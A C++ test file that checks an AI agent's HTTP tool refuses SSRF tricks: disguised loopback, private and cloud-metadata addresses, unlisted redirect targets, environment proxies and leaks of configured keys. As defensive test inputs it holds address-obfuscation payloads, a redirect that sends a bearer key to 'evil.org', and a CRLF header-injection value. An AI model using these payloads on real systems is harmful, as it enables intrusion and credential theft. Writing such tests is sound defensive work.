// What a model is kept away from: local services, hosts that are not listed, and keys that are not its own.
#include "tools/http_tool_call.hpp"
#include <sennit/agent/definition.hpp>
#include <sennit/agent/registry.hpp>

#include <catch2/catch_test_macros.hpp>
#include <catch2/matchers/catch_matchers_string.hpp>

#include <string>
#include <vector>

using namespace sennit;
using namespace sennit::testing;
using Catch::Matchers::ContainsSubstring;

namespace {

/// As an agent file makes it.
Tools from_options(const json::object& options) {
  Definition definition;
  definition.file = "/agents/agent.yaml";
  const Registry registry;
  return make_http_tools(options, PartContext{definition, registry, {}});
}

Error option_error(const json::object& options) {
  return error_of([&] { (void)from_options(options); });
}

/// A redirect from every path but "/end".
Reply redirect_to(const HttpRequest& request, const std::string& location, int status = 302) {
  if (request.target == "/end") return Reply::text("the end");
  return Reply::text("moved").status(status).header("Location", location);
}

HttpSettings with_key(std::vector<std::string> hosts, std::string value = "Bearer ${env:SENNIT_TEST_KEY}") {
  HttpSettings settings = local();
  settings.allow_hosts = std::move(hosts);
  settings.headers = {{"Authorization", std::move(value)}};
  return settings;
}

}  // namespace

TEST_CASE("loopback is refused however it is spelt, and nothing connects") {
  TestEnvironment env;
  const HttpServer server(Reply::text("secret"));
  for (const char* host : {"127.0.0.1", "localhost", "LOCALHOST.", "2130706433", "0x7f000001", "0x7f.1", "0177.0.0.1",
                           "127.1", "127.0.1", "0", "0.0.0.0", "127.255.255.254", "[::1]", "[::]", "[::ffff:127.0.0.1]",
                           "[::ffff:7f00:1]", "[::127.0.0.1]", "[64:ff9b::7f00:1]", "[2002:7f00:1::]"}) {
    INFO(host);
    const Error error = get_error(env, "http://" + std::string(host) + ":" + std::to_string(server.port()) + "/", {});
    CHECK(error.code() == errc::denied);
    CHECK_THAT(error.message(), ContainsSubstring("not on the public internet") && ContainsSubstring("allow_private"));
    CHECK_FALSE(error.retryable());
  }
  CHECK(server.connections() == 0);
}

TEST_CASE("private, link-local, metadata and other special addresses are refused") {
  TestEnvironment env;
  for (const char* host :
       {"169.254.169.254", "2852039166", "[::ffff:169.254.169.254]", "[fd00:ec2::254]", "10.0.0.1", "172.16.0.1",
        "172.31.255.255", "192.168.1.1", "100.64.0.1", "198.18.0.1", "224.0.0.1", "255.255.255.255", "192.0.2.1",
        "[fe80::1]", "[fc00::1]", "[ff02::1]", "[2001::1]", "[2001:db8::1]"}) {
    INFO(host);
    CHECK(get_error(env, "http://" + std::string(host) + "/", {}).code() == errc::denied);
    CHECK(call_error(env, make_http({}), "http_send", {{"url", "https://" + std::string(host) + "/"}}).code() ==
          errc::denied);
  }
}

TEST_CASE("full-width digits and other disguises of a host are refused as no URL") {
  TestEnvironment env;
  CHECK(get_error(env, "http://１２７.０.０.１/", {}).code() == errc::invalid_argument);
  CHECK(get_error(env, "http://①②⑦.0.0.1/", {}).code() == errc::invalid_argument);
  CHECK(get_error(env, "http://example.com@127.0.0.1/", {}).code() == errc::invalid_argument);
}

TEST_CASE("a connection that another part of the program holds open does not lend itself to the tool") {
  TestEnvironment env;
  const HttpServer server(Reply::text("secret"));
  CHECK_THAT(get_url(env, server.url()), ContainsSubstring("secret"));
  CHECK(get_error(env, server.url(), {}).code() == errc::denied);
  CHECK(server.requests().size() == 1);
}

TEST_CASE("a redirect to an address that is not allowed ends there") {
  TestEnvironment env;
  const HttpServer inside(Reply::text("secret"));
  for (const std::string& host : {std::string("127.0.0.1"), std::string("localhost"), std::string("2130706433")}) {
    const std::string location = "http://" + host + ":" + std::to_string(inside.port()) + "/";
    const HttpServer outside(Reply::text("moved").status(302).header("Location", location));
    HttpSettings settings;  // as if only the first server were on the public internet
    settings.allow_address = [&outside](const sockaddr&) { return outside.requests().empty(); };
    const ToolOutput output = call_output(env, make_http(settings), "http_get", {{"url", outside.url()}});
    CHECK_THAT(output.content, !ContainsSubstring("secret") && ContainsSubstring(host));
    CHECK_FALSE(output.labels.untrusted.empty());
    CHECK(outside.requests().size() == 1);
  }
  CHECK(inside.connections() == 0);
}

TEST_CASE("only listed hosts are asked, also by redirects") {
  TestEnvironment env;
  const HttpServer other(Reply::text("other"));
  const HttpServer server([&](const HttpRequest& request) { return redirect_to(request, other.url()); });
  HttpSettings settings = local();
  settings.allow_hosts = {host_of(server)};
  CHECK_THAT(get_url(env, server.url("/end"), settings), ContainsSubstring("the end"));
  CHECK_THAT(get_refusal(env, server.url("/"), settings),
             ContainsSubstring("redirects to '" + other.url()) && ContainsSubstring(host_of(server)));
  CHECK(get_error(env, other.url(), settings).code() == errc::denied);
  CHECK(other.connections() == 0);
}

TEST_CASE("a listed host that is private still needs allow_private") {
  TestEnvironment env;
  const HttpServer server(Reply::text("x"));
  HttpSettings settings;
  settings.allow_hosts = {"127.0.0.1"};
  CHECK(get_error(env, server.url(), settings).code() == errc::denied);
  CHECK(server.connections() == 0);
}

TEST_CASE("redirects are followed, counted and told") {
  TestEnvironment env;
  const HttpServer server([](const HttpRequest& request) {
    const int left = request.target.size() < 2 ? 0 : request.target.at(1) - '0';
    if (left == 0) return Reply::text("arrived");
    return Reply::text("").status(302).header("Location", "/" + std::to_string(left - 1));
  });
  CHECK_THAT(get_url(env, server.url("/1")), ContainsSubstring("from " + server.url("/0") + " (after 1 redirect)"));
  CHECK_THAT(get_url(env, server.url("/5")), ContainsSubstring("(after 5 redirects)"));
  CHECK_THAT(get_refusal(env, server.url("/6")), ContainsSubstring("more than 5 redirects"));
}

TEST_CASE("a loop of redirects ends") {
  TestEnvironment env;
  const HttpServer server(Reply::text("").status(301).header("Location", "/"));
  CHECK_THAT(get_refusal(env, server.url()), ContainsSubstring("more than 5 redirects"));
  CHECK(server.requests().size() == kMaxRedirects + 1);
}

TEST_CASE("where the answer to what was sent leads is told, and not followed") {
  TestEnvironment env;
  int status = 303;
  const HttpServer server([&](const HttpRequest& request) { return redirect_to(request, "/end", status); });
  const Tools tools = make_http(local());
  for (const int each : {301, 302, 303, 307, 308}) {
    status = each;  // between calls, while the server has nothing to do
    const std::size_t before = server.requests().size();
    const std::string answer = call(env, tools, "http_send", {{"url", server.url("/form")}, {"body", "x=1"}});
    CHECK_THAT(answer, ContainsSubstring("HTTP " + std::to_string(each)) && ContainsSubstring("was not followed") &&
                           ContainsSubstring((each < 304 ? "GET " : "POST ") + server.url("/end")));
    CHECK(server.requests().size() == before + 1);
  }
}

TEST_CASE("no redirect takes a call, or its headers, to another port") {
  TestEnvironment env;
  const Variable key("SENNIT_TEST_KEY", "key-1234");
  const HttpServer other(Reply::text("other"));
  const HttpServer server([&](const HttpRequest& request) {
    return redirect_to(request, request.target == "/stay" ? "/end" : other.url("/x"));
  });
  const Tools tools = make_http(with_key({"127.0.0.1"}));
  const json::object own{{"X-Own", "mine"}};
  (void)call(env, tools, "http_get", {{"url", server.url("/stay")}, {"headers", own}});
  CHECK(server.requests().at(0).header("authorization") == "Bearer key-1234");
  CHECK(server.requests().at(1).header("authorization") == "Bearer key-1234");
  CHECK(server.requests().at(1).header("x-own") == "mine");
  const std::string answer = call(env, tools, "http_get", {{"url", server.url("/away")}, {"headers", own}});
  CHECK_THAT(answer, ContainsSubstring("another port") && ContainsSubstring("call again with " + other.url("/x")));
  CHECK(other.connections() == 0);
}

TEST_CASE("configured headers go over https only, unless private addresses are allowed") {
  TestEnvironment env;
  const Variable key("SENNIT_TEST_KEY", "key-1234");
  const HttpServer server(Reply::text("x"));
  HttpSettings settings = with_key({"127.0.0.1"});
  settings.allow_private = false;
  settings.allow_address = [](const sockaddr&) { return true; };
  const Error error = get_error(env, server.url(), settings);
  CHECK(error.code() == errc::denied);
  CHECK_THAT(error.message(), ContainsSubstring("https"));
  CHECK(server.connections() == 0);
}

TEST_CASE("a model can neither replace a configured header nor have it named elsewhere") {
  TestEnvironment env;
  const Variable key("SENNIT_TEST_KEY", "key-1234");
  const HttpServer server(Reply::text("x"));
  const Tools tools = make_http(with_key({"127.0.0.1"}));
  const json::object headers{{"authorization", "Bearer other"}};
  CHECK(call_error(env, tools, "http_get", {{"url", server.url()}, {"headers", headers}}).code() == errc::denied);
  CHECK(call_error(env, tools, "http_get", {{"url", "http://example.com/"}}).code() == errc::denied);
  CHECK(server.connections() == 0);
}

TEST_CASE("a secret that a server sends back is masked, in bodies, headers and errors") {
  TestEnvironment env;
  const Variable key("SENNIT_TEST_KEY", "key-1234");
  const HttpServer server([](const HttpRequest& request) {
    const std::string sent(request.header("authorization"));
    if (request.target == "/redirect") {
      return Reply::text("").status(302).header("Location", "http://evil.org/?" + sent.substr(7));
    }
    return Reply::text("you sent " + sent).header("ETag", sent).status(request.target == "/error" ? 500 : 200);
  });
  for (const char* value : {"Bearer ${env:SENNIT_TEST_KEY}", "Bearer key-1234"}) {  // written out: still a secret
    INFO(value);
    const Tools tools = make_http(with_key({"127.0.0.1"}, value));
    for (const char* path : {"/", "/error"}) {
      const std::string answer = call(env, tools, "http_get", {{"url", server.url(path)}});
      CHECK_THAT(answer, !ContainsSubstring("key-1234") && ContainsSubstring("you sent Bearer ***") &&
                             ContainsSubstring("etag: Bearer ***"));
    }
    const std::string refusal = call(env, tools, "http_get", {{"url", server.url("/redirect")}});
    CHECK_THAT(refusal, !ContainsSubstring("key-1234") && ContainsSubstring("***"));
  }
}

TEST_CASE("a key that is not set, or holds a line break, is a failure before anything is sent") {
  TestEnvironment env;
  const HttpServer server(Reply::text("x"));
  ::unsetenv("SENNIT_TEST_KEY");
  const Error unset = get_error(env, server.url(), with_key({"127.0.0.1"}));
  CHECK(unset.code() == errc::config);
  CHECK_THAT(unset.message(), ContainsSubstring("SENNIT_TEST_KEY"));
  const Variable key("SENNIT_TEST_KEY", "key\r\nHost: other");
  const Error broken = get_error(env, server.url(), with_key({"127.0.0.1"}));
  CHECK(broken.code() == errc::invalid_argument);
  CHECK_THAT(broken.message(), ContainsSubstring("Authorization") && !ContainsSubstring("other"));
  CHECK(server.connections() == 0);
}

TEST_CASE("a proxy of the environment is not used") {
  TestEnvironment env;
  const HttpServer proxy(Reply::text("from the proxy"));
  const HttpServer server(Reply::text("direct"));
  const Variable lower("http_proxy", proxy.url());
  const Variable all("ALL_PROXY", proxy.url());
  CHECK_THAT(get_url(env, server.url()), ContainsSubstring("direct"));
  CHECK(proxy.connections() == 0);
}

TEST_CASE("the options of an agent file become settings") {
  TestEnvironment env;
  const HttpServer server(
      [](const HttpRequest& request) { return Reply::text(std::string(request.header("x-team"))); });
  const json::object headers{{"X-Team", "blue"}};
  const Tools tools = from_options(
      {{"allow_hosts", json::array{"127.0.0.1"}}, {"allow_private", true}, {"headers", headers}, {"timeout", 2.5}});
  CHECK_THAT(call(env, tools, "http_get", {{"url", server.url()}}), ContainsSubstring("\n\nblue"));
  CHECK(tool_named(tools, "http_get").spec().timeout == milliseconds{7'500});
  CHECK_THAT(tool_named(tools, "http_get").spec().description.description, ContainsSubstring("only: 127.0.0.1"));
  const Tools patient = from_options({{"timeout", "1m30s"}});
  CHECK(tool_named(patient, "http_send").spec().timeout == milliseconds{95'000});
  CHECK_THAT(tool_named(from_options({}), "http_get").spec().description.description,
             ContainsSubstring("public hosts only"));
}

TEST_CASE("options that are wrong or unsafe say what to write instead") {
  CHECK_THAT(option_error({{"allow_host", json::array{}}}).message(), ContainsSubstring("did you mean 'allow_hosts'"));
  CHECK_THAT(option_error({{"retries", 3}}).message(), ContainsSubstring("it has: allow_hosts"));
  CHECK_THAT(option_error({{"allow_hosts", json::array{"https://example.com"}}}).message(),
             ContainsSubstring("without http://"));
  CHECK_THAT(option_error({{"headers", json::object{{"X-Key", "x"}}}}).message(), ContainsSubstring("allow_hosts"));
  const json::array hosts{"example.com"};
  CHECK_THAT(option_error({{"allow_hosts", hosts}, {"headers", json::object{{"Host", "x"}}}}).message(),
             ContainsSubstring("'Host'"));
  CHECK_THAT(option_error({{"allow_hosts", hosts}, {"headers", json::object{{"X", "a\nb"}}}}).message(),
             ContainsSubstring("'X'"));
  for (const json::value& timeout :
       {json::value(0), json::value(-1), json::value(1e9), json::value("soon"), json::value("2h"), json::value(true)}) {
    CHECK_THAT(option_error({{"timeout", timeout}}).message(), ContainsSubstring("timeout"));
  }
  for (const json::object& wrong : {json::object{{"allow_hosts", "example.com"}}, json::object{{"allow_private", "no"}},
                                    json::object{{"headers", json::array{}}}, json::object{{"ca_file", 1}}}) {
    CHECK(option_error(wrong).code() == errc::config);
  }
}
